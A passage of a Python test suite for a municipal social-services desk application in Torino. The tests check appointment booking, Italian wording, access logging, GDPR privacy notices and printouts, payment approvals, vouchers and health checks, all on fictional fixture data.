    book: Handler = desk.services.answers[("intake", "POST", "/appointments")]

    def book_known(request: httpx.Request) -> httpx.Response:
        pid = json.loads(request.content).get("person_id")
        if pid and pid not in {"p-f33adeeca7d4", "p-1", "p-m1", "p-m2"}:
            return httpx.Response(404, json={"status": 404, "field": "person_id", "reason": f"no person {pid}"})
        return book(request)

    desk.services.answers[("intake", "POST", "/appointments")] = book_known
    await desk.as_operator(MARIA)
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    form = {"csrf": "csrf-maria", "day": tomorrow, "time": "10:00", "minutes": "30", "purpose": "needs_assessment",
            "operator": "maria"}  # fmt: skip
    page = await desk.client.get(f"/agenda?day={tomorrow}")
    assert "Con (nome e cognome della persona" in text_of(page.text), text_of(page.text)
    r = await desk.client.post("/agenda", data=form | {"party": "Fatima El Amrani"})
    assert r.status_code == 303, text_of(r.text)
    r = await desk.client.post("/agenda", data=form | {"party": "el amrani  FATIMA", "time": "11:00"})
    assert r.status_code == 303, text_of(r.text)  # case, spaces and order as typed
    assert [b["person_id"] for b in booked] == ["p-f33adeeca7d4", "p-f33adeeca7d4"], booked
    r = await desk.client.post("/agenda", data=form | {"party": "p-1", "time": "12:00"})
    assert r.status_code == 303 and booked[-1]["person_id"] == "p-1"  # an identifier still books
    for typed, said in (
        ("Mario Rossi", "2 persone che Lei può vedere si chiamano «Mario Rossi»"),
        ("Fatima Rossi", "nessuna persona «Fatima Rossi» tra quelle che Lei può vedere"),
        ("Nessuno Qui", "nessuna persona «Nessuno Qui» tra quelle che Lei può vedere"),
    ):
        r = await desk.client.post("/agenda", data=form | {"party": typed})
        text = text_of(r.text)
        assert r.status_code == 422 and 'id="party-error"' in r.text, text
        assert said in text and "Fissa un appuntamento" in text, text  # and how to proceed: from the cartella
        assert "no person" not in text and f'value="{typed}"' in r.text, text
    assert len(booked) == 3


async def test_the_cartella_books_an_appointment_with_its_person_chosen_by_name(desk: Desk) -> None:
    """Booking needed the person's internal id, shown only in the cartella's address: the cartella links to the
    agenda's form with the person chosen, named; the view of the name is in the access log."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    booked = agenda_services(desk.services)
    persons_by_name(desk.services, AMINA)
    await desk.as_operator(MARIA)
    cartella = await desk.client.get("/persons/p-1")
    link = re.search(r'<a href="(/agenda\?[^"]+)"[^>]*>([^<]+)</a>', cartella.text)
    assert link is not None and link.group(2).strip() == "Fissa un appuntamento", cartella.text
    assert link.group(1) == "/agenda?person_id=p-1"
    page = await desk.client.get(link.group(1))
    assert page.status_code == 200, page.text
    booking = page.text.split('method="post" action="/agenda"', 1)[1].split("</form>", 1)[0]
    assert '<input type="hidden" name="person_id" value="p-1">' in booking, booking
    assert "Con: Amina Okafor" in text_of(booking) and 'name="party"' not in booking, text_of(booking)
    assert 'name="person_id" value="p-1"' in page.text.split('action="/agenda" class="search"', 1)[1]  # day kept
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    yesterday = (clock.today() - timedelta(days=1)).isoformat()
    form = {"csrf": "csrf-maria", "time": "10:00", "minutes": "30", "purpose": "plan_review", "operator": "maria",
            "person_id": "p-1"}  # fmt: skip
    refused = await desk.client.post("/agenda", data=form | {"day": yesterday})
    assert refused.status_code == 422 and "Con: Amina Okafor" in text_of(refused.text)  # still chosen
    assert '<input type="hidden" name="person_id" value="p-1">' in refused.text
    r = await desk.client.post("/agenda", data=form | {"day": tomorrow})
    assert r.status_code == 303, text_of(r.text)
    assert [b["person_id"] for b in booked] == ["p-1"]
    async with desk.pool.acquire() as conn:
        entries = await store.access_entries(conn, "torino", "p-1")
    assert {(e["action"], e["outcome"]) for e in entries} >= {("agenda", "shown")}, entries


async def test_the_to_do_list_and_the_agenda_say_no_raw_codes(desk: Desk) -> None:
    """The to-do list read "(nell'agenda di op-desk-torino-0)", an operator's code, and "c-7c95faf5f340
    (01a25001-52f4-…)", a request's UUID; the agenda's clash "l'operatore Maria Rossi (demo) ha già un appuntamento
    (apt-bb70a7d4feeb) in quell'orario". An operator the desk has no account for is said so, her code small and grey
    beside it; neither the request's nor the appointment's id is said; the clash names whom, without "l'operatore"."""
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    today = clock.today().isoformat()
    uuid = "01a25001-52f4-7c3e-9d2a-5b8f0e4c1a77"
    desk.services.answers |= {
        ("housing", "GET", "/reminders"): [],
        ("payments", "GET", "/reminders"): [
            {"kind": "payee_refused", "request_id": uuid, "case_id": "c-8e2b7d41a9f0",
             "household_id": "h-5f1c0a9e7b2d", "contribution_kind": "rent", "amount_cents": 45000, "reason": "ac04",
             "since": today, "waiting_days": 2}],
        ("intake", "GET", "/appointments/reminders/open"): [
            {"kind": "appointment_reminder_due", "appointment_id": "apt-bb70a7d4feeb", "operator": "op-desk-torino-0",
             "person_id": None, "street_id": None, "case_id": "c-8e2b7d41a9f0", "purpose": "needs_assessment",
             "starts_at": f"{tomorrow}T09:00:00+00:00", "since": today, "waiting_days": 0}],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(MARIA)
    todo = await desk.client.get("/todo?lang=it")
    said = text_of(todo.text).replace(" )", ")")  # the code's tag read as a space
    assert "(nell'agenda di un operatore senza account allo sportello op-desk-torino-0)" in said, said
    assert '<small class="id">op-desk-torino-0</small>' in todo.text, todo.text
    assert uuid not in todo.text and "apt-bb70a7d4feeb" not in todo.text, todo.text
    agenda_services(desk.services)
    clash = {"status": 409, "field": "starts_at",
             "reason": f"operator maria already has appointment apt-bb70a7d4feeb from {tomorrow}T09:00:00+00:00"
                       f" to {tomorrow}T09:30:00+00:00"}  # fmt: skip
    desk.services.answers[("intake", "POST", "/appointments")] = httpx.Response(409, json=clash)
    form = {"csrf": "csrf-maria", "day": tomorrow, "time": "09:00", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    r = await desk.client.post("/agenda?lang=it", data=form)
    said = text_of(r.text)
    # Maria's code is her username (added before desk-9): said as it is; a drawn code is said by her name
    # (test_an_operator_added_since_codes_is_sent_and_named_by_her_code: "Piero Vela ha già un appuntamento")
    assert r.status_code == 422 and "maria ha già un appuntamento in quell'orario" in said, said
    assert "l'operatore" not in said and "apt-bb70a7d4feeb" not in r.text, said


async def test_the_agenda_and_the_to_do_list_name_the_person_coming(desk: Desk) -> None:
    """The agenda read "Con: p-f33adeeca7d4" and the to-do list "Appuntamento del … con op-desk-torino-0: Valutazione
    dei bisogni", as if the operator were coming, the person never named and the case "—". The person is named (the
    read in the access log), the operator said as the agenda's owner; an unreadable person keeps the id."""
    tomorrow = clock.today() + timedelta(days=1)
    starts, ends = f"{tomorrow.isoformat()}T09:00:00+00:00", f"{tomorrow.isoformat()}T09:30:00+00:00"

    def appointment(aid: str, person: str) -> dict[str, Any]:
        return {"appointment_id": aid, "agenda": "desk", "operator": "giulia", "unit_id": None, "person_id": person,
                "street_id": None, "purpose": "needs_assessment", "starts_at": starts, "ends_at": ends,
                "status": "booked", "outcome": None, "booked_by": "desk.giulia"}  # fmt: skip

    persons_by_name(desk.services, FATIMA)
    problem = {"status": 403, "field": "", "reason": "the person has not consented to sharing data with partners"}
    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [appointment("apt-1", "p-f33adeeca7d4"), appointment("apt-2", "p-9")],
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "GET", "/persons/p-9"): httpx.Response(403, json=problem),
        ("housing", "GET", "/reminders"): [],
        ("intake", "GET", "/appointments/reminders/open"): [
            {"kind": "appointment_reminder_due", "appointment_id": "apt-1", "operator": "giulia",
             "person_id": "p-f33adeeca7d4", "street_id": None, "case_id": "c-8e2b7d41a9f0",
             "purpose": "needs_assessment", "starts_at": starts, "since": clock.today().isoformat(),
             "waiting_days": 0},
            {"kind": "appointment_reminder_due", "appointment_id": "apt-3", "operator": "giulia",
             "person_id": "p-f33adeeca7d4", "street_id": None, "case_id": None, "purpose": "needs_assessment",
             "starts_at": starts, "since": clock.today().isoformat(), "waiting_days": 0}],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): {
            "case_id": "c-8e2b7d41a9f0", "action_area": "housing_inclusion", "opened_on": "2026-01-10",
            "partner": None, "household_id": "h-5f1c0a9e7b2d"},
    }  # fmt: skip
    await desk.as_operator(MARIA)
    agenda = await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")
    assert agenda.status_code == 200, agenda.text
    assert '<a href="/persons/p-f33adeeca7d4?purpose=case_work">Fatima El Amrani</a>' in agenda.text, agenda.text
    assert '<a href="/persons/p-9?purpose=case_work">p-9</a>' in agenda.text  # not readable: its id
    english = text_of((await desk.client.get(f"/agenda?day={tomorrow.isoformat()}&lang=en")).text)
    assert "Fatima El Amrani" in english, english
    todo = await desk.client.get("/todo?lang=it")  # the language is remembered: back to Italian
    text = text_of(todo.text).replace(" :", ":")  # the name is a link: its tag read as a space
    when = text.split("Appuntamento del ", 1)[1].split(" con ", 1)[0]
    assert (
        f"Appuntamento del {when} con Fatima El Amrani: Valutazione dei bisogni (nell'agenda di Giulia Verdi)" in text
    ), text
    assert "con Giulia Verdi" not in text, text
    assert todo.text.count('<a href="/persons/p-f33adeeca7d4?purpose=case_work">Fatima El Amrani</a>') == 2
    assert 'href="/?case_id=c-8e2b7d41a9f0"' in todo.text  # the case, where intake knows it, linked
    assert "nessuna pratica aperta" in text, text  # the other: said, not "—"
    english = text_of((await desk.client.get("/todo?lang=en")).text).replace(" :", ":")
    assert "with Fatima El Amrani: Needs assessment (in Giulia Verdi's agenda)" in english, english
    async with desk.pool.acquire() as conn:
        entries = await store.access_entries(conn, "torino", "p-f33adeeca7d4")
        refused = await store.access_entries(conn, "torino", "p-9")
    assert {(e["action"], e["outcome"]) for e in entries} == {("agenda", "shown"), ("to-do", "shown")}, entries
    assert {(e["action"], e["outcome"]) for e in refused} == {("agenda", "denied")}, refused
    await desk.as_operator(RPD)  # the DPO reads why the person was looked at
    log = text_of((await desk.client.get("/access-log?person_id=p-f33adeeca7d4&lang=it")).text)
    assert "Agenda" in log and "Da fare" in log, log


async def test_the_cartellas_timeline_and_household_read_as_italian(desk: Desk) -> None:
    """An outside tester's reading: "segnalazione ricevuta da Uscita da progetto…" (a capital mid-sentence, and
    'received from Exit'), "è entrato/a nel nucleo: Tariq" (the subject last), "Entrato"/"Uscito" as columns,
    "Nessuna proposta ancora." (a calque); and the header "Maria Rossi (demo) (operatore del Comune, Torino)"."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = desk.services.answers[("intake", "GET", "/persons/p-1/record")]
    record["timeline"] += [
        {"on": today, "kind": "registered"},
        {"on": today, "kind": "referral_received", "source": "reception_exit"},
        {"on": today, "kind": "member_joined", "person_id": "p-1"},
        {"on": today, "kind": "member_joined", "person_id": "p-2"},
        {"on": today, "kind": "member_joined", "person_id": "p-3"},
        {"on": today, "kind": "member_left", "person_id": "p-2"},
        {"on": today, "kind": "member_left", "person_id": "p-1"},
    ]
    member = {"joined_on": today, "left_on": None, "reason": None, "birth_date": "2010-01-01"}
    record["households"][0]["members"] += [
        member | {"person_id": "p-2", "name": "Tariq Okafor", "sex": "male"},
        member | {"person_id": "p-3", "name": "Sam Okafor", "sex": "undisclosed"},
    ]
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    # "registrata allo sportello" of a man (a DPO's review), and of a person a partner registered over Kafka; "persona
    # registrata" agrees with "persona", whoever she is, and says nowhere
    assert "persona registrata" in text and "registrata allo sportello" not in text, text
    assert "segnalazione ricevuta: Uscita da progetto di accoglienza" in text, text
    # An outside tester read "Amina Okafor è entrato/a nel nucleo" of a woman whose sex is recorded: "o/a" only when
    # it is not known (or not said: "undisclosed", "other").
    assert "Amina Okafor è entrata nel nucleo" in text and "Tariq Okafor è entrato nel nucleo" in text, text
    assert "Sam Okafor è entrato/a nel nucleo" in text, text
    assert "è uscito dal nucleo: Tariq Okafor" in text and "è uscita dal nucleo: Amina Okafor" in text, text
    english = text_of((await desk.client.get("/persons/p-1?lang=en")).text)
    assert "Amina Okafor joined the household" in english and "left the household: Tariq Okafor" in english
    assert "Ingresso" in text and "Uscita" in text and "Entrato" not in text
    assert "Maria Rossi · personale del Comune, Torino" in text


async def test_a_nationality_is_registered_from_the_countrys_name(desk: Desk) -> None:
    """The form asked for an ISO code ('Cittadinanza (codice ISO, es. NG)') and 'Marocco' was refused as "formato non
    valido": the country's name is read (suggested as the operator types), and a name no country has is said so."""
    registered: list[tuple[str, dict[str, Any]]] = []
    for path in ("/persons", "/consents", "/households"):
        desk.services.answers[("intake", "POST", path)] = keeping(registered)
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    assert '<input id="m0_nationality" name="m0_nationality" type="text" value="" list="countries"' in new
    assert '<option value="Marocco"></option>' in new.split('<datalist id="countries">', 1)[1].split("</datalist>")[0]
    member = {"csrf": "csrf-maria", "m0_given_name": "Fatima", "m0_family_name": "El Amrani",
              "m0_birth_date": "1990-02-02", "m0_sex": "female", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=member | {"m0_nationality": "Atlantide"})
    assert r.status_code == 422 and registered == []
    assert 'id="m0_nationality-error"' in r.text and "nessun paese con questo nome" in text_of(r.text)
    r = await desk.client.post("/persons/new", data=member | {"m0_nationality": "Marocco"})
    assert r.status_code == 303, r.text
    assert registered[0][1]["nationality"] == "MA", registered


async def test_a_case_is_called_pratica_and_presa_in_carico_is_only_the_action_area(desk: Desk) -> None:
    """'Prese in carico' headed the cases, 'Apri una presa in carico → Area di intervento: Presa in carico → Apri la
    presa in carico' opened one, and elsewhere a case was a 'Pratica': one word for a case, the other for the area."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    text = text_of(page)
    assert "Prese in carico" not in text and "Apri una presa in carico" not in text, text
    assert '<h2 id="h-cases">Pratiche</h2>' in page or ">Pratiche</h2>" in page, page
    assert "Apri una pratica" in text and "Apri la pratica" in text
    assert '<option value="taking_charge">Presa in carico</option>' in page  # the action area keeps its name
    assert ">Alloggio</h2>" in page  # as the housing page calls it ("Alloggio del nucleo di …")


async def test_the_privacy_notice_says_what_gdpr_art_13_asks(desk: Desk) -> None:
    """The printed notice lacked the controller, the data-protection officer's contacts, how long data are kept and
    the right to complain to the Garante (an outside tester's reading of it against GDPR art. 13)."""
    person = {"person_id": "p-1", "identity": {"given_name": "Amina", "family_name": "Okafor"}}
    desk.services.answers[("intake", "GET", "/persons/p-1")] = person
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1/privacy-notice")).text)
    assert "Titolare del trattamento: Comune di Torino." in text, text
    assert "I recapiti del responsabile della protezione dei dati sono disponibili allo sportello." in text
    assert "I suoi dati sono conservati finché la sua pratica è aperta" in text
    assert "artt. 15-21 GDPR" in text and "Garante per la protezione dei dati personali" in text
    # a city that sets its own (LGNET_DESK_PRIVACY_*): said as set
    settings = desk.settings
    settings.privacy_controller = "Comune di Torino, Piazza Palazzo di Città 1, 10122 Torino"
    settings.privacy_dpo_contact = "rpd@comune.torino.example"
    settings.privacy_retention = "I suoi dati sono conservati per dieci anni dalla chiusura della pratica."
    text = text_of((await desk.client.get("/persons/p-1/privacy-notice")).text)
    assert "Titolare del trattamento: Comune di Torino, Piazza Palazzo di Città 1, 10122 Torino." in text, text
    assert "Responsabile della protezione dei dati: rpd@comune.torino.example." in text
    assert "per dieci anni dalla chiusura della pratica." in text and "finché la sua pratica" not in text


async def test_the_dpo_is_refused_every_page_but_her_own_without_an_entry_in_the_access_log(desk: Desk) -> None:
    """The DPO (no identity on the services: she reads the access log, desk.md) was offered the registration form,
    and opening a cartella or the privacy notice wrote "RPD Torino … Cartella sociale … negato" into her own log,
    under "Il servizio ha rifiutato: il suo profilo non opera su questo servizio". Every page but hers is the desk's
    "not for your role" (403), as the housing page already was, with no call to a service and nothing logged."""
    await desk.as_operator(RPD)
    erasures = ("/persons/p-1/erasure", "/outreach/street-persons/s-1/erasure")  # GDPR art. 17: the city's staff's
    for path in ("/persons/new", "/persons/p-1", "/persons/p-1/privacy-notice", "/agenda", "/outreach", "/civic",
                 *erasures):  # fmt: skip
        r = await desk.client.get(path)
        assert r.status_code == 403, (path, r.status_code)
        assert "Questa pagina non è prevista per il suo ruolo" in text_of(r.text), (path, text_of(r.text))
    assert desk.services.calls == [], desk.services.calls
    async with desk.pool.acquire() as conn:
        assert await conn.fetch("select * from access_log") == []
    assert (await desk.client.get("/access-log")).status_code == 200
    home = await desk.client.get("/")
    assert (home.status_code, home.headers["location"]) == (303, "/access-log")


async def test_the_printout_for_the_person_names_the_operator_and_what_was_looked_at(desk: Desk) -> None:
    """The printout handed to the person (GDPR art. 15) named the operator by account ("operatrice") and dropped
    what was looked at, which the DPO's own log shows."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, MARIA, "p-1", "case_work", "document d-1", "shown")
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log/subject/p-1")
    assert page.status_code == 200 and ">Che cosa è stato consultato</th>" in page.text
    text = text_of(page.text)
    assert "Maria Rossi" in text and " maria " not in text, text
    assert "La sua cartella sociale" in text and "Un suo documento" in text, text


async def test_the_printout_for_the_person_says_in_words_what_was_looked_at_and_how(desk: Desk) -> None:
    """From an outside review: the printout handed to the person (GDPR art. 15) listed technical rows: internal ids
    (a document's, her household's, a payment file's), the kinds of the services' logs ("(API)") and the desk's own
    words for its pages. Each row says in words what of hers was looked at and how (at the desk, or by an
    organisation's software), who, when, why and whether it was allowed: what the law asks, and nothing internal."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, MARIA, "p-1", "case_work", "document d-4f1a", "shown")
        await store.log_access(conn, MARIA, "p-1", "case_work", "member of p-77", "shown")
        await store.log_access(conn, MARIA, "p-1", "payments_office", "sepa file b-9c2e", "shown")
        await store.log_access(conn, LUCA, "p-1", "case_work", "cartella", "denied")
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log/subject/p-1")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    for said in (
        "La sua cartella sociale",
        "Un suo documento",
        "La cartella sociale di un componente del suo nucleo",
        "Un file di pagamento per la banca",
        "allo sportello",
        "Maria Rossi",
        "consentito",
        "rifiutato",
    ):
        assert said in text, (said, text)
    for internal in ("d-4f1a", "p-77", "b-9c2e", "(API)", "mostrato", "negato"):
        assert internal not in text, (internal, text)
    english = text_of((await desk.client.get("/access-log/subject/p-1?lang=en")).text)
    assert "Your social record" in english and "at the desk" in english and "refused" in english, english


async def test_the_first_of_two_approvers_is_not_offered_the_second_approval(desk: Desk) -> None:
    """Above the city's threshold payments wants two approvers: the first was offered "Approva" again and got
    payments' refusal. Her row says a second operator must approve it."""
    answers = two_rents()
    requests = answers[("payments", "GET", "/contribution-requests")]
    requests[0] |= {"first_approver": "desk.giulia"}  # r-dec: Giulia gave the first approval
    desk.services.answers |= answers
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row = approvals_row(page, "r-dec")
    assert 'action="/approvals/r-dec"' not in row and ">Approva<" not in row, row
    assert "Ha dato Lei la prima approvazione: serve quella di un altro operatore." in text_of(row), row
    assert 'action="/approvals/r-jun"' in approvals_row(page, "r-jun")  # the other still hers to approve


async def test_the_second_approver_reads_whom_the_money_is_for_and_who_approved_first(desk: Desk) -> None:
    """From an outside review: the second approver could not see whom she approved money for (the beneficiary's
    cell said an IBAN's last characters only) nor who gave the first approval. Both said, Italian first: the household
    by its reference person as the desk names it elsewhere, whose contribution it is (the IBAN stays masked; a payee
    payments names is named beside it: test_the_approver_sees_whom_the_money_goes_to_by_name…)."""
    answers = two_rents("coop-aurora")
    dec = answers[("payments", "GET", "/contribution-requests")][0]
    dec |= {"first_approver": "desk.giulia", "has_beneficiary": True, "iban_masked": "••••3000",
            "bank_data_changed_by": "coop-aurora"}  # fmt: skip
    desk.services.answers |= answers | {("intake", "GET", "/partners"): []}
    await desk.as_operator(GIULIA)  # known to the desk: named
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/approvals")).text
    row = text_of(approvals_row(page, "r-dec"))
    assert "IBAN ••••3000, inserito da coop-aurora Contributo per il nucleo di Amina Okafor" in row, row
    assert "Prima approvazione data da Giulia Verdi; serve una seconda approvazione." in row, row
    assert "Prima approvazione" not in text_of(approvals_row(page, "r-jun"))
    row = text_of(approvals_row((await desk.client.get("/approvals?lang=en")).text, "r-dec"))
    assert "IBAN ••••3000, entered by coop-aurora Contribution for the household of Amina Okafor" in row, row
    assert "First approval given by Giulia Verdi; a second approval is needed." in row, row


async def test_a_rejected_contribution_says_why_on_the_cartella(desk: Desk) -> None:
    """The cartella said "respinto" without the reason the approver chose."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("payments", "GET", "/contribution-requests")] = [
        {"request_id": "r-1", "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount_cents": 30000,
         "status": "rejected", "reason": "duplicate", "requested_by": "desk.maria"}]  # fmt: skip
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert "respinto: Richiesta doppia" in text, text


async def test_a_voucher_is_issued_from_the_cartella_and_listed_with_the_household(desk: Desk) -> None:
    """Vouchers (babysitting, public transport, cleaning) are contributions the brief names, and the desk offered none:
    the contribution form skipped the kind. A form issues one for the case's household (payments' POST /vouchers), and
    the household's vouchers are listed with what is left of each."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    issued: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/vouchers")] = keeping(issued)
    desk.services.answers[("payments", "GET", "/vouchers")] = [
        {"voucher_id": "v-1", "household_id": "h-5f1c0a9e7b2d", "case_id": "c-8e2b7d41a9f0", "city": "torino",
         "kind": "public_transport", "value_cents": 5000, "remaining_cents": 3000, "budget_line_id": "bl-1",
         "valid_until": "2027-03-31", "issued_on": today, "expired_on": None}]  # fmt: skip
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/vouchers"', 1)[1].split("</form>", 1)[0]
    assert '<select id="voucher_kind" name="voucher_kind" required' in form
    assert '<option value="babysitting">Babysitting</option>' in form, form
    listed = text_of(page.split('id="h-vouchers"', 1)[1].split("</section>", 1)[0])
    assert "Trasporto pubblico" in listed and "50,00 €" in listed and "30,00 €" in listed, listed
    sent = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "voucher_kind": "babysitting",
            "voucher_value": "1.200", "valid_until": "2027-06-30"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/vouchers", data=sent)
    assert r.status_code == 303, r.text
    assert issued[-1][1] == {"case_id": "c-8e2b7d41a9f0", "kind": "babysitting", "value_cents": 120000,
                             "valid_until": "2027-06-30"}, issued  # fmt: skip
    r = await desk.client.post("/persons/p-1/vouchers", data=sent | {"voucher_value": ""})
    assert r.status_code == 422 and 'id="voucher_value-error"' in r.text and "campo obbligatorio" in text_of(r.text)


async def test_withdrawing_the_sharing_consent_says_first_who_stops_seeing_the_person(desk: Desk) -> None:
    """An outside tester withdrew the sharing consent on a case a cooperative followed, with a proposal accepted, and
    nothing said what it did; a decision not chosen was recorded as a withdrawal ("granted" defaulted to given)."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("intake", "GET", "/partners")] = [
        {"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}
    ]
    recorded: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/consents")] = keeping(recorded)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    note = text_of(page.split('id="sharing-note">', 1)[1].split("</p>", 1)[0])
    assert note.strip() == (
        "Con la revoca della condivisione con gli enti partner, i dati e le pratiche della persona non saranno più"
        " visibili a Cooperativa Aurora."
    ), note
    r = await desk.client.post("/persons/p-1/consents", data={"csrf": "csrf-maria", "purpose": "partner_sharing"})
    assert r.status_code == 422 and recorded == [] and 'id="granted-error"' in r.text


async def test_readiness_is_503_naming_postgres_while_it_does_not_answer_and_liveness_stays_200(
    database_url: str, pg_schema: str
) -> None:
    """As the services' /health/ready (docs/operators.md, "Health and metrics"): a city IT team stopping PostgreSQL
    got a plain-text 500 "Internal Server Error" and a traceback in the desk's log."""
    settings = DeskSettings(
        DATABASE_URL=database_url, LGNET_DB_SCHEMA=pg_schema, LGNET_MASTER_KEY=base64.b64encode(os.urandom(32)).decode()
    )
    app = create_app(settings)
    await app.state.http.aclose()
    up = await db.create_pool(database_url, pg_schema, max_size=1)
    down = await asyncpg.create_pool(f"postgresql://lgnet@127.0.0.1:{free_port()}/lgnet", min_size=0, max_size=1)
    try:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://desk.test") as c:
            app.state.pool = up
            r = await c.get("/health/ready")
            assert (r.status_code, r.json()) == (200, {"status": "ok", "service": "desk", "checks": {"postgres": "ok"}})
            app.state.pool = down
            # Liveness names the desk as the services' does: a probe reading several ports tells which answered.
            r = await c.get("/health/live")
            assert (r.status_code, r.json()) == (200, {"status": "ok", "service": "desk"})
            r = await c.get("/health/ready")
            assert r.status_code == 503 and r.json()["status"] == "unavailable", r.text
            assert r.json()["checks"]["postgres"].startswith("error: "), r.text
    finally:
        await up.close()
        await down.close()


def test_a_desk_whose_database_does_not_answer_says_so_on_one_line() -> None:
    """`lgnet-desk` with PostgreSQL not answering: one `start refused` line naming DATABASE_URL (without its password)
    and why, exit status 3 — it was a traceback."""
    nothing = free_port()
    env = {
        **os.environ,
        "DATABASE_URL": f"postgresql://lgnet:s3cret-pw@127.0.0.1:{nothing}/lgnet",
        "LGNET_MASTER_KEY": base64.b64encode(os.urandom(32)).decode(),
        "LGNET_HTTP_PORT": str(free_port()),
    }
    done = subprocess.run(
        [sys.executable, "-m", "lgnet_desk.entrypoints.main"], env=env, capture_output=True, text=True, timeout=60
    )
    lines = [json.loads(line) for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    assert done.returncode == 3, lines
    assert not [r for r in lines if "Traceback" in json.dumps(r)], lines
    refused = [r["reason"] for r in lines if r["event"] == "start refused"]
    assert len(refused) == 1, lines
    assert refused[0].startswith(f"DATABASE_URL postgresql://lgnet@127.0.0.1:{nothing}/lgnet: database unreachable")
    assert "s3cret-pw" not in json.dumps(lines)


def test_desk_admin_names_database_url_when_postgres_does_not_answer(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It printed "lgnet-desk-admin: ConnectionRefusedError: …", naming no setting."""
    from lgnet_desk.entrypoints import admin

    nothing = free_port()
    monkeypatch.setenv("DATABASE_URL", f"postgresql://lgnet:s3cret-pw@127.0.0.1:{nothing}/lgnet")
    monkeypatch.setenv("LGNET_MASTER_KEY", base64.b64encode(os.urandom(32)).decode())
    monkeypatch.setenv("LGNET_DESK_PASSWORD", "una-password-lunga")
    assert admin.main(["add-operator", "x", "--name", "X", "--role", "staff", "--city", "torino"]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"lgnet-desk-admin: DATABASE_URL postgresql://lgnet@127.0.0.1:{nothing}/lgnet: database"), err
    assert "s3cret-pw" not in err


async def test_a_desk_started_with_another_master_key_refuses_naming_it(database_url: str, pg_schema: str) -> None:
    """Restarted with another LGNET_MASTER_KEY, the desk reported ready and let operators log in, then every page
    calling a service was a 500 (the operators' service tokens no longer open: InvalidTag)."""
    from lgnet_shared import setup_errors

    def settings(key: str) -> DeskSettings:
        return DeskSettings(DATABASE_URL=database_url, LGNET_DB_SCHEMA=pg_schema, LGNET_MASTER_KEY=key)

    def desk_with(key: str) -> Any:
        return create_app(settings(key))

    first_key = base64.b64encode(os.urandom(32)).decode()
    first = desk_with(first_key)
    async with first.router.lifespan_context(first):
        async with first.state.pool.acquire() as conn:
            await store.add_operator(conn, MARIA, "x", {"intake": "tok"}, _token_key(settings(first_key)))
    again = desk_with(first_key)
    async with again.router.lifespan_context(again):  # the same key: starts
        pass
    other = desk_with(base64.b64encode(os.urandom(32)).decode())
    with pytest.raises(
        setup_errors.SetupError, match=r"^LGNET_MASTER_KEY: does not open the operators' service tokens"
    ):
        async with other.router.lifespan_context(other):
            pass
    assert other.state.start_refused


def an_outing_with_one_contact(today: str) -> dict[str, Any]:
    """Intake's GET /outings/out-1 of today: one contact (ct-4c2e), not linked to a person yet."""
    return {"outing_id": "out-1", "unit_id": "unit-7f3a", "on_date": today, "start_time": "20:00:00",
            "end_time": "23:30:00", "places": ["Porta Nuova"], "staff": ["maria"],
            "contacts": [{"contact_id": "ct-4c2e", "street_id": "sp-91ab", "has_nickname": False,
                          "place": "Porta Nuova", "age_band": "18_29", "sex": "male", "needs_observed": [],
                          "services_offered": [], "contacted_on": today, "first_contact_on": today,
                          "person_id": None, "linked_on": None}]}  # fmt: skip


async def test_a_refused_street_contact_keeps_the_ticked_boxes_and_says_the_refusal_at_its_field(desk: Desk) -> None:
    """An outing's contact form preset the age band and the sex (a contact recorded as "Femmina, meno di 18 anni"
    unseen), lost the needs and services ticked when intake refused it, and its refusals (and the link's) were not
    tied to their field for a screen reader; the person typed to link a contact was lost on a refusal."""
    today = clock.today().isoformat()
    sent: list[dict[str, Any]] = []

    def record(request: httpx.Request) -> httpx.Response:
        sent.append(json.loads(request.content))
        return httpx.Response(422, json={"status": 422, "field": "contacted_on", "reason": "is in the future"})

